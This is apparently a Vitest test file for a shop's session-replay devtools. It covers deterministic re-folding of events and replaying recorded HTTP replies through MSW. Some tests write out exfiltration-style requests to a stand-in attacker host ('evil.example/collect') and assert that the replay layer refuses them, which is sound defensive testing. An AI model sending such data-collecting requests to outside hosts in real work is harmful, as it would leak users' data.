/**
 * Replay: re-folding a loaded session gives the same state as the live fold at every event; the
 * determinism check agrees with itself and names the first event where an impure fold diverges;
 * recorded replies are matched by method, path template and occurrence, and answer through MSW; in
 * a live re-run what they do not answer is refused, never sent (issue 30).
 */
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foldAll, fold } from '../../projections/fold';
import type { AppState } from '../../projections/state';
import type { AppEvent } from '../../events/envelope';
import { checkDeterminism, refold } from '../../devtools/state/replay';
import { movedTo, replayHandlers, replyMatcher, templatePattern } from '../../devtools/rerun/replay-handlers';
import { recordedReplies } from '../../devtools/session/scenario-export';
import { replyGate } from '../../devtools/rerun/reply-gate';
import { withRefused } from '../../devtools/rerun/rerun-trace';
import { recordedSession } from './support/recorded';

const events = recordedSession().log.all();

function longSession(n: number): AppEvent[] {
  const s = recordedSession();
  while (s.log.size < n) s.emit('nav/changed', { path: `/checkout/${s.log.size}`, search: '' });
  return [...s.log.all()];
}

describe('re-fold', () => {
  it('gives the fold of the events at every seq', () => {
    const checkpoints = refold(events);
    for (const e of events) expect(checkpoints.stateAt(e.seq)).toEqual(foldAll(events.slice(0, e.seq + 1)));
  });
});

describe('determinism check', () => {
  it('finds the real fold deterministic at every checkpoint', () => {
    const result = checkDeterminism(longSession(200), { interval: 64 });
    expect(result).toEqual({ deterministic: true, checkpoints: 4 });
  });

  it('names the first event after which an impure fold differs', () => {
    const session = longSession(200);
    const impure = (state: AppState, event: AppEvent): AppState => {
      const next = fold(state, event);
      if (event.seq !== 150) return next;
      return { ...next, session: { ...next.session, missingTranslations: [`clock:${Math.random()}`] } };
    };
    const result = checkDeterminism(session, { second: impure, interval: 64 });
    expect(result).toMatchObject({ deterministic: false, firstDifferentSeq: 150, type: 'nav/changed' });
  });
});

describe('replay matching', () => {
  const replies = recordedReplies(events);

  it('numbers replies by method, path template and occurrence', () => {
    expect(replies.map((r) => [r.method, r.pathTemplate, r.occurrence, r.status])).toEqual([
      ['POST', '/cart/items', 0, 200],
      ['GET', '/cart/items/{id}/prices', 0, 402],
      ['GET', '/cart/items/{id}/prices', 1, null],
    ]);
  });

  it('matches a concrete path to its template, any value in the holes', () => {
    expect(templatePattern('/cart/items/{id}/prices').test('/api/cart/items/zz9/prices')).toBe(true);
    expect(templatePattern('/cart/items/{id}/prices').test('/api/cart/items/zz9')).toBe(false);
  });

  it('answers each occurrence with its own recorded reply and nothing for unknown requests', () => {
    const matcher = replyMatcher(replies);
    expect(matcher.match('GET', '/api/cart/items/a/prices')?.status).toBe(402);
    expect(matcher.match('GET', '/api/cart/items/b/prices')?.status).toBeNull();
    expect(matcher.match('GET', '/api/cart/items/c/prices')).toBeNull();
    expect(matcher.match('DELETE', '/api/cart/items')).toBeNull();
    expect(matcher.match('post', '/api/cart/items')?.status).toBe(200);
  });

  describe('through msw/node', () => {
    const server = setupServer(...replayHandlers(replies));
    beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
    afterAll(() => server.close());

    it('fails the card call again the same way, then the network one', async () => {
      const first = await fetch('https://shop.test/api/cart/items', { method: 'POST', body: '{}' });
      expect(first.status).toBe(200);
      const failed = await fetch('https://shop.test/api/cart/items/x/prices');
      expect(failed.status).toBe(402);
      expect(await failed.json()).toMatchObject({ key: 'payment.card_failed' });
      await expect(fetch('https://shop.test/api/cart/items/y/prices')).rejects.toThrow();
    });
  });

  describe('in a live re-run, through msw/node (issue 30)', () => {
    const refused: string[] = [];
    /** What got past the recording: the mock provider, or the network, would have answered it. */
    const passedOn: string[] = [];
    const server = setupServer(
      ...replayHandlers(replies, undefined, {
        pageOrigin: 'https://shop.test',
        providerBases: ['https://shop.test/api', 'https://validation.provider.test/'],
        refused: (call) => refused.push(call),
      }),
      http.all('*', ({ request }) => {
        passedOn.push(`${request.method} ${request.url}`);
        return HttpResponse.text('passed on');
      }),
    );
    beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
    afterAll(() => server.close());

    it('refuses what the recording did not answer, to the provider or any other origin, as a lost connection', async () => {
      expect((await fetch('https://shop.test/api/cart/items', { method: 'POST', body: '{}' })).status).toBe(
        200,
      );
      await expect(fetch('https://shop.test/api/users', { credentials: 'include' })).rejects.toThrow();
      await expect(fetch('https://validation.provider.test/vat')).rejects.toThrow();
      await expect(
        fetch('https://evil.example/collect?x=1', { method: 'POST', body: 'x' }),
      ).rejects.toThrow();
      await expect(fetch('https://evil.example/api/__mock/state')).rejects.toThrow();
      expect(passedOn).toEqual([]);
      expect(refused).toEqual([
        'GET https://shop.test/api/users',
        'GET https://validation.provider.test/vat',
        'POST https://evil.example/collect',
        'GET https://evil.example/api/__mock/state',
      ]);
    });

    it("lets the page's own files load", async () => {
      expect(await (await fetch('https://shop.test/locales/en-US.json')).text()).toBe('passed on');
      expect(passedOn).toEqual(['GET https://shop.test/locales/en-US.json']);
    });
  });

  it('counts a refused call as a difference, whether or not the runs parted already', () => {
    const outcome = { checkout: 'idle', messages: [] };
    expect(withRefused({ same: true, outcome }, [])).toEqual({ same: true, outcome });
    expect(withRefused({ same: true, outcome }, ['GET https://shop.test/api/users'])).toEqual({
      same: false,
      recordedSeq: null,
      liveSeq: null,
      what: 'GET https://shop.test/api/users: not in the recording, refused',
      outcome,
      refused: ['GET https://shop.test/api/users'],
    });
    const parted = { same: false as const, recordedSeq: 4, liveSeq: 5, what: 'GET /cart (call 1)', outcome };
    expect(withRefused(parted, ['GET https://evil.example/x'])).toEqual({
      ...parted,
      refused: ['GET https://evil.example/x'],
    });
  });

  it("reads the recorded page's own URLs in the replies as this page's", () => {
    const recorded = [
      {
        method: 'POST',
        pathTemplate: '/checkout',
        occurrence: 0,
        status: 200,
        body: { redirect: 'https://shop.test/en/thank-you?messageKey=fail', invoiceId: 'INV-1' },
      },
    ];
    expect(movedTo(recorded, 'https://shop.test', 'http://127.0.0.1:4604')[0]?.body).toEqual({
      redirect: 'http://127.0.0.1:4604/en/thank-you?messageKey=fail',
      invoiceId: 'INV-1',
    });
    expect(recorded[0]?.body.redirect).toBe('https://shop.test/en/thank-you?messageKey=fail');
  });

  describe('held until the re-run has caught up', () => {
    const gate = replyGate(60_000, () => new Promise<void>(() => {}));
    const server = setupServer(
      ...replayHandlers(replies, { turns: [0, 1, 1], until: gate.until, pageEnd: gate.pageEnd }),
    );
    beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
    afterAll(() => server.close());

    it('answers a reply recorded after an intent only once that intent is played', async () => {
      expect((await fetch('https://shop.test/api/cart/items', { method: 'POST', body: '{}' })).status).toBe(
        200,
      );
      let answered = false;
      const held = fetch('https://shop.test/api/cart/items/x/prices').then((r) => {
        answered = true;
        return r;
      });
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(answered).toBe(false);
      gate.played(1);
      expect((await held).status).toBe(402);
    });
  });
});
